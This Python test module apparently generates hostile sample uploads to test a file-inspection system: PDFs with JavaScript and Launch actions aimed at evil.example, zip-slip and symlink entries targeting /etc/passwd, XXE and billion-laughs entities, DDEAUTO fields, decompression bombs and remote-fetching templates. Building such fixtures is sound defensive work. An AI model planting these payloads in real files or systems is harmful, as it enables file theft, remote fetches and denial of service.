"""Files that somebody might attach to do harm, made from a seed: nothing is downloaded and nothing here is a virus.

``CLASSES`` maps what is wrong to a maker of one such file; ten of each are made, each a little different.
"""

import base64
import io
import random
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from openmash.uploads.inspecting.marks import EICAR
from tests import files

Hostile = tuple[str, bytes]
Chance = random.Random
HONEST: dict[str, Callable[[], bytes]] = {
    "letter.pdf": files.pdf,
    "letter.docx": files.docx,
    "photo.jpg": files.jpeg,
    "screen.png": files.png,
    "mail.eml": lambda: files.mail().as_bytes(),
    "note.txt": lambda: b"She came to school with bruises.\n",
}
PROGRAMS = (
    *(
        b"MZ\x90\x00",
        b"\x7fELF\x02\x01",
        b"\xcf\xfa\xed\xfe\x07",
        b"\xca\xfe\xba\xbe\x00",
        b"#!/bin/sh\n",
        b"\x00asm\x01",
    ),
    *(b"L\x00\x00\x00\x01\x14\x02\x00", b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08\x00"),
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>fetch('https://evil.example')</script>"


def empty(chance: Chance, n: int) -> Hostile:
    """Nothing at all, or nothing but spaces where something must be."""
    name = list(HONEST)[n % 6]
    return name, b"" if n < 6 or name == "note.txt" else b" " * n


def cut_short(chance: Chance, n: int) -> Hostile:
    """Part of an honest file."""
    name = list(HONEST)[n % 4]
    whole = HONEST[name]()
    return name, whole[: chance.randrange(len(whole) // 4, len(whole) * 9 // 10)]


def wrong_ending(chance: Chance, n: int) -> Hostile:
    """An honest file under the name of another kind."""
    names = ["letter.pdf", "letter.docx", "photo.jpg", "screen.png"]
    name = names[n % 4]
    others = [each for each in names if each != name]
    return name, HONEST[others[n % 3]]()


def program(chance: Chance, n: int) -> Hostile:
    """A program or an archive that is called a letter."""
    return list(HONEST)[n % 6], PROGRAMS[n] + chance.randbytes(500)


def known_virus(chance: Chance, n: int) -> Hostile:
    """The agreed test string, in plain sight and packed away."""
    made = files.pdf() if n % 5 != 1 else b""
    match n % 5:
        case 0:
            return "note.txt", EICAR
        case 1:
            pdf = pikepdf.open(io.BytesIO(files.pdf()))
            pdf.pages[0].Contents = pdf.make_stream(b"% " * n + EICAR)
            return "letter.pdf", files.saved(pdf)
        case 2:
            return "letter.docx", files.packed({**files.docx_parts(), "word/notes.xml": b"<a>" + EICAR + b"</a>"})
        case 3:
            return "mail.eml", files.attach(files.mail(), EICAR + b" " * n, "text/plain", "n.txt").as_bytes()
    return "letter.pdf", made + EICAR


def name_that_lies(chance: Chance, n: int) -> Hostile:
    """Characters that are not seen, or that turn the direction of reading."""
    signs = "\u202e\u200b\u2066\x00\x07\r\ufeff\u2028\u00ad\ud800"
    return f"letter{signs[n]}fdp.pdf", files.pdf()


def path_as_name(chance: Chance, n: int) -> Hostile:
    """Names that lead elsewhere, or that a system takes for a device."""
    names = ["../../etc/passwd.pdf", "C:\\temp\\a.pdf", "/etc/a.pdf", "con.pdf", "nul.txt.pdf", "..pdf", ".pdf"]
    return [*names, "a" * 300 + ".pdf", "a.pdf ", "a|b.pdf"][n], files.pdf()


def kind_not_taken(chance: Chance, n: int) -> Hostile:
    """Endings that are not on the list, or a second one behind which a program hides."""
    names = [
        "a.exe",
        "a.svg",
        "a.html",
        "a.docm",
        "a.zip",
        "a.doc",
        "letter.exe.pdf",
        "letter.js .txt",
        "a",
        "a.pdf.lnk",
    ]
    return names[n], files.pdf()


def markup_as_words(chance: Chance, n: int) -> Hostile:
    """Pages and drawings with scripts that are called text or pictures."""
    content = [SVG, HTML, b"<?xml version='1.0'?>" + SVG, b"  \n<script>1</script>", b"<html>", b"<?php system(1);"][
        n % 6
    ]
    return ["note.txt", "photo.jpg", "screen.png", "mail.eml"][n % 4 if n >= 6 else 0], content


def _pdf_with(change: Callable[[pikepdf.Pdf], None]) -> Hostile:
    pdf = pikepdf.open(io.BytesIO(files.pdf(pages=2)))
    change(pdf)
    return "letter.pdf", files.saved(pdf)


def pdf_script(chance: Chance, n: int) -> Hostile:
    """JavaScript wherever a PDF may have it."""
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))

    def change(pdf: pikepdf.Pdf) -> None:
        match n % 5:
            case 0:
                pdf.Root.OpenAction = action
            case 1:
                pdf.Root.AA = Dictionary(WC=action)
            case 2:
                names = Dictionary(Names=Array([String("a"), pdf.make_indirect(action)]))
                pdf.Root.Names = Dictionary(JavaScript=names)
            case 3:
                pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(action))
            case _:
                note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
                pdf.pages[n % 2].obj.Annots = Array([pdf.make_indirect(note)])

    return _pdf_with(change)


def pdf_action(chance: Chance, n: int) -> Hostile:
    """Actions that start, send or fetch something."""
    kinds = ["Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie", "Sound", "Launch", "GoToR"]
    action = Dictionary(S=Name(f"/{kinds[n]}"), F=String("\\\\evil.example\\a"))

    def change(pdf: pikepdf.Pdf) -> None:
        if n % 2:
            pdf.Root.OpenAction = pdf.make_indirect(action)
        else:
            note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(Next=Array([action])))
            pdf.pages[1].obj.Annots = Array([note])

    return _pdf_with(change)


def pdf_files_inside(chance: Chance, n: int) -> Hostile:
    """Other files carried inside a PDF."""

    def change(pdf: pikepdf.Pdf) -> None:
        if n % 2:
            pdf.attachments[f"a{n}.exe"] = chance.randbytes(50)
            return
        stream = pdf.make_stream(b"MZ")
        note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9])
        note.FS = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])

    return _pdf_with(change)


def pdf_form(chance: Chance, n: int) -> Hostile:
    """Forms in XML, which are programs of their own; films and models."""

    def change(pdf: pikepdf.Pdf) -> None:
        if n % 2:
            pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>" * n))
        else:
            kind = ["RichMedia", "Movie", "Screen", "3D", "Sound"][n // 2]
            pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9])])

    return _pdf_with(change)


def pdf_locked(chance: Chance, n: int) -> Hostile:
    """Locked with a password to open, or only against changes."""
    pdf = pikepdf.open(io.BytesIO(files.pdf()))
    lock = pikepdf.Encryption(owner=f"o{n}", user=f"u{n}" if n % 2 else "", R=(4, 6)[n % 2])
    return "letter.pdf", files.saved(pdf, encryption=lock)


def pdf_bomb(chance: Chance, n: int) -> Hostile:
    """Streams that unpack to far more than they are."""
    pdf = pikepdf.open(io.BytesIO(files.pdf()))
    packed = zlib.compress(bytes(30_000_000), 9)
    if n % 2:
        pdf.pages[0].obj.Contents = pikepdf.Stream(
            pdf, zlib.compress(packed, 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])
        )
    else:
        streams = [pdf.make_indirect(pikepdf.Stream(pdf, packed, Filter=Name.FlateDecode)) for _ in range(8 + n)]
        pdf.pages[0].obj.Contents = Array(streams)
    target = io.BytesIO()
    pdf.save(target, compress_streams=False, recompress_flate=False)
    return "letter.pdf", target.getvalue()


def pdf_by_hand(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF written by hand, with its table of objects as it should be."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table)
    return bytes(made)


def pdf_without_end(chance: Chance, n: int) -> Hostile:
    """Loops and depth on which readers have hung: the tree of pages, objects in objects, tables in circles."""
    root, pages = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
    deep = 5_000 + n
    match n % 5:
        case 0:
            return "letter.pdf", pdf_by_hand([root, pages])
        case 1:
            return "letter.pdf", pdf_by_hand([root, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"[" * deep + b"]" * deep])
        case 2:
            whole = pdf_by_hand([root, pages])
            table = whole.rindex(b"xref\n0")
            return "letter.pdf", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % table)
        case 3:
            nested = b"<</A" * deep + b" 1" + b">>" * deep
            return "letter.pdf", pdf_by_hand([root, b"<</Type/Pages/Kids[]/Count 0>>", nested])
    many = b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"3 0 R " * 5_000, 2_000_000_000)
    return "letter.pdf", pdf_by_hand([root, many, pages])


def two_at_once(chance: Chance, n: int) -> Hostile:
    """Files that are one thing from the front and another from behind."""
    archive = files.packed({"a.exe": b"MZ"})
    made = [
        ("letter.pdf", files.pdf() + archive),
        ("photo.jpg", files.jpeg() + archive),
        ("screen.png", files.png() + archive),
        ("letter.docx", b"MZ" + files.docx()),
        ("photo.jpg", files.jpeg() + HTML),
        ("screen.png", files.png() + b"MZ" + chance.randbytes(90)),
        ("letter.pdf", files.pdf() + HTML),
        ("letter.pdf", HTML + files.pdf()),
        ("photo.jpg", files.jpeg(comment=HTML)),
        ("note.txt", b"words\n" + archive),
    ]
    return made[n]


def word_bomb(chance: Chance, n: int) -> Hostile:
    """Packages that unpack to far more than they are, one of them by entries that share their bytes."""
    parts = files.docx_parts()
    if n % 3 == 0:
        parts["word/notes.xml"] = b"<a>" + b" " * (20_000_000 + n) + b"</a>"
        return "letter.docx", files.packed(parts)
    whole = bytearray(files.packed({**parts, "word/a.xml": chance.randbytes(3_000), "word/b.xml": b"<b/>"}))
    if n % 3 == 1:  # says that it is small and is not, or the other way round
        at = whole.rindex(b"PK\x01\x02")
        whole[at + 24 : at + 28] = struct.pack("<I", (4_000_000_000, 3)[n % 2])
        return "letter.docx", bytes(whole)
    first, last = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x01\x02")
    whole[last + 42 : last + 46] = whole[first + 42 : first + 46]
    return "letter.docx", bytes(whole)


def word_of_too_many_parts(chance: Chance, n: int) -> Hostile:
    """More parts than any letter has."""
    return "letter.docx", files.packed({**files.docx_parts(), **{f"word/{k}.xml": b"<a/>" for k in range(1_000 + n)}})


def word_with_files_inside(chance: Chance, n: int) -> Hostile:
    """Other files packed into a document, under their own names and under others."""
    names = ["word/embeddings/a.xlsx", "word/a.zip", "word/media/a.png", "word/a.exe", "word/media/b.emf"]
    body = [files.packed({"b": b"b"}), PROGRAMS[n] + b"x" * 99][n % 2]
    return "letter.docx", files.packed({**files.docx_parts(), names[n % 5]: body})


def _zip_with(name: str, *, mode: int = 0, flags: int = 0, body: bytes = b"<a/>") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for part, content in files.docx_parts().items():
            package.writestr(part, content)
        entry = zipfile.ZipInfo("placeholder.xml")
        entry.external_attr = mode << 16
        package.writestr(entry, body)
    raw = target.getvalue()
    if flags:
        at = raw.rindex(b"PK\x01\x02")
        raw = raw[: at + 8] + struct.pack("<H", flags) + raw[at + 10 :]
    return raw.replace(b"placeholder.xml", name.encode("latin-1").ljust(15, b"x")[:15]) if name else raw


def zip_slip(chance: Chance, n: int) -> Hostile:
    """Parts whose names lead out of the folder they are unpacked in."""
    names = ["../../../a.xml", "/etc/passwd.xml", "..\\..\\a.xml", "C:\\a\\b\\c.xml", "word/../../.xml"]
    return "letter.docx", _zip_with(
        [*names, "word/\x00a.xml", "a/b/\n.xml", "a/:b/cc.xml", "~/$HOME/*.xml", "a\xff/b.xml"][n]
    )


def zip_link(chance: Chance, n: int) -> Hostile:
    """Symbolic links, and two parts of one name."""
    if n % 2:
        return "letter.docx", _zip_with("", mode=stat.S_IFLNK | 0o777, body=b"/etc/passwd")
    double = ["word/document.xml", "[Content_Types].xml", "_rels/.rels", "WORD/document.xml", "Word/Document.xml"]
    target = io.BytesIO(files.docx())
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as package:
        warnings.simplefilter("ignore")  # the library says that there are two
        package.writestr(zipfile.ZipInfo(double[n // 2]), b"<a/>")
    return "letter.docx", target.getvalue()


def macros(chance: Chance, n: int) -> Hostile:
    """Programs in a Word document, and templates with them under another name."""
    parts = files.docx_parts()
    if n % 2:
        kinds = ["document.macroEnabled.main", "template.macroEnabledTemplate.main", "document.vbaData"]
        kind = f"application/vnd.ms-word.{kinds[n % 3]}+xml"
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(files.MAIN.encode(), kind.encode())
    else:
        parts[["word/vbaProject.bin", "word/activeX/a.xml", "customUI/a.xml", "word/vbaData.xml", "a.bin"][n // 2]] = (
            OLE
        )
    return "letter.docx", files.packed(parts)


def old_office(chance: Chance, n: int) -> Hostile:
    """Old Office files under new names, and their objects inside new ones."""
    if n < 6:
        return list(HONEST)[n], OLE + chance.randbytes(100)
    parts = files.docx_parts()
    parts["word/_rels/document.xml.rels"] = files.relations(
        (["oleObject", "package", "control", "aFChunk"][n - 6], "a.xml", False)
    )
    return "letter.docx", files.packed(parts)


def reaches_out(chance: Chance, n: int) -> Hostile:
    """Relationships that fetch something when the document is opened."""
    each = [
        *(("attachedTemplate", "https://evil.example/a.dotm"), ("image", "https://evil.example/a.png")),
        *(("frame", "https://evil.example"), ("hyperlink", "file://evil.example/a"), ("image", "\\\\evil.example\\a")),
        *(
            ("hyperlink", "javascript:alert(1)"),
            ("subDocument", "https://evil.example"),
            ("hyperlink", "ms-word:ofe|u|a"),
        ),
        *(("settings", "http://127.0.0.1/"), ("hyperlink", "search-ms:query=a")),
    ][n]
    parts = {**files.docx_parts(), "word/_rels/document.xml.rels": files.relations((*each, n % 5 != 4))}
    return "letter.docx", files.packed(parts)


def growing_xml(chance: Chance, n: int) -> Hostile:
    """Entities that grow a billionfold or are fetched, in several encodings; depth without end."""
    laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 10 + n % 3))
    text = [
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l9;</a>',
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://127.0.0.1/a.dtd"><a/>',
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1/"> %p;]><a/>',
        "<a>" * (5_000 + n) + "</a>" * (5_000 + n),
    ][n % 5]
    raw = text.encode("utf-16") if n >= 5 and n % 5 != 4 else text.encode()
    if raw[:2] in (b"\xff\xfe", b"\xfe\xff"):
        raw = text.replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")
    part = ["word/document.xml", "word/settings.xml", "[Content_Types].xml", "_rels/.rels"][n % 4]
    return "letter.docx", files.packed({**files.docx_parts(), part: raw})


def commands_in_fields(chance: Chance, n: int) -> Hostile:
    """Fields that run a command or fetch a file, also cut into pieces."""
    runs = [
        *((" DDEAUTO c:\\\\a.exe",), ("DDE a b",), ("D", "DE", "AUTO a"), (" INCLUDETEXT \\\\\\\\evil\\\\a",)),
        *((' INCLUDEPICTURE "https://evil.example"',), ("dDeAuTo x",), (" LINK Word.Document a",), ("IMP", "ORT a")),
        *(("\tDATABASE \\d a",), (" MACROBUTTON a b",)),
    ][n]
    return "letter.docx", files.packed({**files.docx_parts(), "word/document.xml": files.fields(*runs)})


def _png(width: int, height: int, *extra: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    more = b"".join(chunk(body[:4], body[4:]) for body in extra)
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(bytes(5_000))) + chunk(b"IEND", b"")


def pixel_bomb(chance: Chance, n: int) -> Hostile:
    """A few kilobytes that claim to be a picture of billions of points."""
    if n % 3 == 0:
        return "screen.png", _png(60_000 + n, 60_000)
    if n % 3 == 1:
        whole = bytearray(files.jpeg())
        at = whole.index(b"\xff\xc0")
        whole[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000 - n)
        return "photo.jpg", bytes(whole)
    return "letter.docx", files.packed({**files.docx_parts(), "word/media/a.png": _png(50_000, 50_000 + n)})


def broken_picture(chance: Chance, n: int) -> Hostile:
    """Moving pictures, lies about lengths, text that unpacks without end, and noise."""
    bomb = b"zTXtComment\x00\x00" + zlib.compress(bytes(100_000_000), 9)
    return [
        ("screen.png", _png(40, 40, b"acTL" + struct.pack(">II", 2, 0))),
        ("screen.png", _png(40, 40, bomb)),
        ("screen.png", files.png()[:-12] + struct.pack(">I", 0x7FFFFFFF) + b"IEND\xaeB`\x82"),
        ("screen.png", files.png().replace(b"IDAT", b"IDAX")),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + chance.randbytes(2_000)),
        ("photo.jpg", b"\xff\xd8\xff" * 900),
        ("photo.jpg", files.jpeg()[:-2]),
        ("photo.jpg", files.jpeg()[:600] + b"\xff\xd9"),
        ("screen.png", _png(0, 40)),
        ("screen.png", _png(40, 40, b"iTXtXML\x00\x00\x00\x00\x00<script>alert(1)</script>")),
    ][n]


def _nested(depth: int, *, kind: str) -> bytes:
    made: EmailMessage = files.mail()
    for _ in range(depth):
        outer = files.mail()
        if kind == "mail":
            outer.add_attachment(made)
        else:
            outer.make_mixed()
            outer.attach(made)
        made = outer
    return made.as_bytes()


def hostile_mail(chance: Chance, n: int) -> Hostile:
    """Programs attached, parts without end, scripts, and headers that are none."""
    plain = files.mail().as_bytes()
    many = files.mail()
    for k in range(120):
        files.attach(many, b"a", "text/plain", f"{k}.txt")
    zipped = files.packed({"a.js": b"1"})
    return "mail.eml", [
        files.attach(files.mail(), b"MZ" + bytes(50), "application/pdf", "letter.pdf").as_bytes(),
        _nested(12, kind="mail"),
        many.as_bytes(),
        plain.replace(b"please", b"ple\x00ase"),
        b"X-A: " + b"a" * 200_000 + b"\r\n" + plain,
        files.mail(html="<p>hello</p><ScRiPt src=//evil.example>").as_bytes(),
        files.attach(files.mail(), zipped, "application/zip", "a.zip").as_bytes(),
        b"these are no headers at all\n" * 20,
        files.attach(files.mail(), b"a", "application/octet-stream", "inv\u202efdp.exe").as_bytes(),
        b"".join(b"H%d: a\r\n" % k for k in range(2_000)) + plain,
    ][n]


def more_hostile_mail(chance: Chance, n: int) -> Hostile:
    """Hostile files of the other kinds, attached to an honest mail."""
    inner = [
        pdf_script,
        macros,
        two_at_once,
        reaches_out,
        known_virus,
        pixel_bomb,
        pdf_bomb,
        growing_xml,
        zip_slip,
        pdf_locked,
    ]
    name, content = inner[n](chance, 2 if n == 2 else 0)
    made = files.attach(files.mail(), content, "application/octet-stream", name)
    if n % 2:
        made = files.attach(files.mail(), made.as_bytes(), "application/octet-stream", "inner.eml")
    return "mail.eml", made.as_bytes()


def locked_package(chance: Chance, n: int) -> Hostile:
    """Encrypted entries, unknown ways of packing, a comment or bytes behind the end, sizes of another age."""
    whole = files.docx()
    match n % 5:
        case 0:
            return "letter.docx", _zip_with("", flags=1)
        case 1:
            at = whole.rindex(b"PK\x01\x02")
            return "letter.docx", whole[: at + 10] + struct.pack("<H", (12, 14, 93)[n % 3]) + whole[at + 12 :]
        case 2:
            return "letter.docx", whole[:-2] + struct.pack("<H", n + 1) + b"x" * (n + 1)
        case 3:
            return "letter.docx", whole + bytes(n) + b"x"
    return "letter.docx", whole[:-6] + struct.pack("<I", 0xFFFFFF00) + b"\x00\x00"


def no_document(chance: Chance, n: int) -> Hostile:
    """Packages and texts that are no document of their kind, and bytes without sense."""
    parts = files.docx_parts()
    del parts[list(parts)[n % 3]]
    calls = b"BT " + base64.b64encode(chance.randbytes(50))
    return [
        *(("letter.docx", files.packed(parts)), ("letter.docx", files.packed({"a.txt": b"a"}))),
        *(("note.txt", b"\x00\x01" + chance.randbytes(99)), ("note.txt", b"%PDF-1.7 " + calls)),
        *(("letter.pdf", b"%PDF-1.7\n" + chance.randbytes(2_000) + b"\n%%EOF\n"), ("letter.docx", files.packed(parts))),
        *(("note.txt", b"{\\rtf1\\object"), ("note.txt", "abc\u202ecod.exe".encode()), ("note.txt", b"\xff\xfe\x00")),
        ("mail.eml", b"From: a@b.example\r\n\r\n" + chance.randbytes(9)),
    ][n]


def too_large(chance: Chance, n: int) -> Hostile:
    """One byte more than may be, and many more."""
    name = list(HONEST)[n % 6]
    return name, HONEST[name]() + b" " * (15_000_000 + n * 100_000)


CLASSES: tuple[Callable[[Chance, int], Hostile], ...] = (
    *(empty, cut_short, wrong_ending, program, known_virus, name_that_lies, path_as_name, kind_not_taken),
    *(markup_as_words, pdf_script, pdf_action, pdf_files_inside, pdf_form, pdf_locked, pdf_bomb, pdf_without_end),
    *(two_at_once, word_bomb, word_of_too_many_parts, word_with_files_inside, zip_slip, zip_link, macros, old_office),
    *(reaches_out, growing_xml, commands_in_fields, pixel_bomb, broken_picture, hostile_mail, more_hostile_mail),
    *(locked_package, no_document, too_large),
)
OF_EACH = 10
